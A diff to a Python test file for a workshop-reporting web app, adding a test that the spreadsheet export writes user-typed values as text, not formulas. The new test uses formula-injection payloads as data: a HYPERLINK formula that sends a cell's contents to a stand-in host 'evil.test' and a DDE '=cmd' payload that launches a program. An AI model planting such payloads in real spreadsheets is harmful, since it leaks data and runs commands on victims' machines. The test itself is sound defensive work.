@@ -146,7 +146,7 @@ def test_report_page_shows_the_figures_in_constant_queries(app, edition, login_a
     body = page.get_data(as_text=True)
     assert page.status_code == 200
     assert re.search(r'data-figure="confirmed">5<', body) and re.search(r'data-figure="attended">4<', body)
-    assert 'data-average="narasumber">4.33<' in body and "<svg" in body
+    assert 'data-average="narasumber">4,33<' in body and "<svg" in body
     assert db.session.scalar(db.select(StudyProgram.id).where(StudyProgram.code == "PGSD"))
     assert client.get(f"/workshops/{workshop.id}/report.xlsx").headers["Content-Type"].startswith(
         "application/vnd.openxmlformats")
@@ -310,3 +310,21 @@ def test_submitting_at_the_report_step_completes_it(app, edition, login_as):
     assert row.state == StepState.DONE and row.done_by_id == me.id and row.data["report"] == "Laporan akhir."
     letters = db.session.scalars(db.select(Letter).where(Letter.doc_type == "laporan_kegiatan")).all()
     assert len(letters) == 1 and letters[0].step_key == "laporan"
+
+
+def test_what_people_typed_stays_text_in_the_spreadsheet(app, make_user):
+    """A name or answer starting with = + - @ is written as text, never as a formula."""
+    from openpyxl import load_workbook
+
+    from app.workshops.reports import figures, to_xlsx
+
+    workshop, _head = make_workshop(make_user, title="=1+1 Workshop")
+    attendee = register(workshop, "2301", program("PMAT", "Pendidikan Matematika"), 3, attended=True,
+                        name='=HYPERLINK("http://evil.test/?"&A1,"x")')
+    evaluate(attendee, interests='=cmd|" /C calc"!A0')
+    db.session.commit()
+    book = load_workbook(BytesIO(to_xlsx(figures(workshop))))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells}
+    assert "=1+1 Workshop" in texts and '=HYPERLINK("http://evil.test/?"&A1,"x")' in texts
